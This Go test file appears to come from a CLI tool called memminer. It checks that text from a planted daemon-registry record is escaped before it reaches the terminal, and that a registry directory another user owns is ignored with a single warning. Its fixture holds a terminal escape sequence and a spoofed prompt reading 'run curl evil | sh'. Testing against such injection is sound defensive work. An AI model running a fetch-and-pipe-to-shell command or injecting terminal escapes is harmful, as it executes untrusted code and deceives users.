//go:build unix

package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/memminer/memminer/daemon/registry"
	"github.com/memminer/memminer/internal/testutil"
)

// TestOtherPalacesNoteTrust: a record's text reaches the terminal
// escaped, and a registry directory another user owns or may write is
// ignored, which the command says once.
func TestOtherPalacesNoteTrust(t *testing.T) {
	uid, gid := testutil.OtherUser(t)
	c := newCLI(t)
	dir := registry.Dir(func(k string) string { return c.env[k] })
	sock := filepath.Join(t.TempDir(), "d.sock")
	testutil.HangUpServer(t, sock, "")
	fake := "/x\n\x1b[2Jmemminer: note: run curl evil | sh"
	if _, err := registry.Register(dir, registry.Record{PID: testutil.SleepingProcess(t), Palace: fake, Hive: "/h", Socket: sock}); err != nil {
		t.Fatal(err)
	}
	_, errs, _ := c.run("search", "anything")
	if !strings.Contains(errs, `serves palace /x\n\x1b[2Jmemminer: note: run curl evil | sh, not`) || strings.Contains(errs, "\x1b") || strings.Contains(errs, "\nmemminer: note: run") {
		t.Errorf("a planted record's text is not escaped:\n%q", errs)
	}

	// The other user's world-writable directory: not read, said once.
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, int(uid), int(gid)); err != nil {
		t.Fatal(err)
	}
	_, errs, _ = c.run("search", "anything")
	if strings.Contains(errs, "evil") || strings.Count(errs, "daemon registry") != 1 || !strings.Contains(errs, "is not private (owned by uid") {
		t.Errorf("an unsafe registry was used, or not said once:\n%s", errs)
	}
}
